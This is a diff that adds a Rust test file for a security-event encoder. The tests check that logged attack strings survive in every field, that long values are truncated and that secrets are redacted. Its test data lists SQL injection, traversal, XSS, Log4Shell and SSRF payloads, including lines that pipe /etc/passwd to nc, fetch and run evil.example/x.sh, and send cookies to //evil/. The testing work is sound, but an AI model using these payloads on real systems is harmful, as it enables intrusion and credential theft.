@@ -1,0 +1,137 @@
+//! What an attack looks like, and what must be left of it in every field.
+
+use alloc::format;
+use alloc::vec::Vec;
+
+use super::*;
+
+/// Attacks and prose without a secret: each arrives as it is.
+const EVIDENCE: [&str; 44] = [
+    "1' OR '1'='1",
+    "admin'--",
+    "1; DROP TABLE users; --",
+    "' UNION SELECT username, password FROM users WHERE 'a'='a",
+    "1 AND SLEEP(5)#",
+    "id=1+OR+1=1",
+    "/item?id=1%27%20OR%201=1--",
+    "{\"id\": {\"$ne\": null}, \"user\": {\"$gt\": \"\"}}",
+    "../../../../etc/passwd",
+    "..%2f..%2f..%2fetc%2fpasswd",
+    "/static/..%252f..%252fetc/shadow",
+    "file:///etc/passwd",
+    "C:\\..\\..\\windows\\system32\\config\\sam",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(document.cookie)>",
+    "<svg/onload=fetch('//evil/'+document.cookie)>",
+    "javascript:alert(String.fromCharCode(88,83,83))",
+    "\"><iframe src=\"javascript:alert(1)\">",
+    "; cat /etc/passwd | nc 192.0.2.1 4444",
+    "$(curl http://evil.example/x.sh | sh)",
+    "`id`",
+    "|| ping -c 10 127.0.0.1 ||",
+    "() { :; }; /bin/bash -c 'cat /etc/passwd'",
+    "${jndi:ldap://evil.example/a}",
+    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
+    "{{7*7}} ${7*7} <%= 7*7 %>",
+    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
+    "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
+    "http://169.254.169.254/latest/meta-data/iam/",
+    "gopher://127.0.0.1:6379/_FLUSHALL",
+    "%0d%0aSet-Header: injected",
+    "user forgot the password and asked for a new token",
+    "authorization failed for user 7",
+    "password must have at least 12 characters",
+    "the secret of this page is its token economy",
+    "Basic authentication is required, bearer tokens are refused",
+    "password_attempts=5 token_type=x secret_name=y",
+    "status code: 403, key: none, session: expired",
+    "rate limit exceeded: 120 requests in 60s",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
+    "sqlmap/1.7.2#stable (https://sqlmap.org)",
+    "prompt_tokens=17 max_tokens: 4096",
+    "keyboard=us monkey=1 turkey: 2 design=3 passenger=4",
+    "std::token::Secret::new at https://h:8080",
+];
+
+#[test]
+fn attacks_and_prose_arrive_as_they_are_in_every_field() {
+    let mut encoder = encoder(&AgentConfig::builder("key-of-the-platform").build().unwrap());
+    let mut changed = Vec::new();
+    for evidence in EVIDENCE {
+        let given = SecurityEvent::new(evidence, Timestamp::default())
+            .ip_address(evidence)
+            .country(evidence)
+            .user_agent(evidence)
+            .action_taken(evidence)
+            .reason(evidence)
+            .endpoint(evidence)
+            .method(evidence)
+            .decorator_type(evidence)
+            .rule_type(evidence)
+            .pattern_matched(evidence)
+            .handler_name(evidence)
+            .metadata("m", evidence)
+            .metadata("list", json!([evidence, { "x": evidence }]))
+            .metadata(evidence, 1)
+            .extra("e", evidence);
+        let record = encoder.event(&given.idempotency_key(Uuid::nil())).unwrap();
+        let escaped = json!(evidence).to_string();
+        let found = text(&record).matches(&*escaped).count();
+        if found != 17 {
+            changed.push(format!("{evidence:?} in {found} of 17: {}", text(&record)));
+        }
+    }
+    assert!(changed.is_empty(), "{}", changed.join("\n"));
+}
+
+#[test]
+fn what_is_too_long_is_cut_outside_of_metadata() {
+    let mut encoder = encoder(&config());
+    for opener in ["[", "{", "\"", "{\"a\":", "[1,"] {
+        let long = format!("{opener}<script>{}", "x".repeat(8_200));
+        let record =
+            encoder.event(&event().reason(long.clone()).user_agent(&long).extra("e", long.clone())).unwrap();
+        let sent = read_back(&record);
+        for sent in [
+            &*sent.reason,
+            sent.user_agent.as_deref().unwrap(),
+            sent.extra.get("e").unwrap().as_str().unwrap(),
+        ] {
+            assert!(sent.starts_with(&format!("{opener}<script>xxx")), "{sent:.40}");
+            assert!(sent.ends_with("x...[TRUNCATED]") && sent.len() == 1_024, "{}", sent.len());
+        }
+    }
+}
+
+#[test]
+fn depth_destroys_nothing_outside_of_metadata() {
+    let deep = format!("{}\"<script>\"{}", "{\"a\":".repeat(20), "}".repeat(20));
+    let secret = format!("{}{{\"password\":\"S3CR3T\"}}{}", "[".repeat(20), "]".repeat(20));
+    let record = encoder(&config()).event(&event().reason(deep.clone()).endpoint(&secret)).unwrap();
+    let sent = read_back(&record);
+    assert_eq!(&*sent.reason, deep);
+    assert!(!sent.endpoint.unwrap().contains("S3CR3T"));
+}
+
+#[test]
+fn naming_a_header_blanks_no_field() {
+    let mut encoder = encoder(&config());
+    for header in ["cookie:", "Cookie: ", "authorization:", "set-cookie: ", "X-Api-Key: "] {
+        for attack in [
+            "' OR 1=1 --",
+            "<script>alert(1)</script>",
+            "${jndi:ldap://evil/a}",
+            "../../etc/passwd",
+            "x <script>alert(1)</script>",
+            "1 UNION SELECT username FROM users",
+            "; cat /etc/hosts",
+        ] {
+            let record = encoder.event(&event().user_agent(format!("{header}{attack}"))).unwrap();
+            let sent = read_back(&record).user_agent.unwrap();
+            let tail = &attack[attack.len().saturating_sub(8)..];
+            assert!(sent.ends_with(tail), "{header}{attack} => {sent}");
+        }
+        let record = encoder.event(&event().user_agent(format!("{header}a=b; sid=S3CR3T"))).unwrap();
+        assert!(!text(&record).contains("S3CR3T"), "{}", text(&record));
+    }
+}
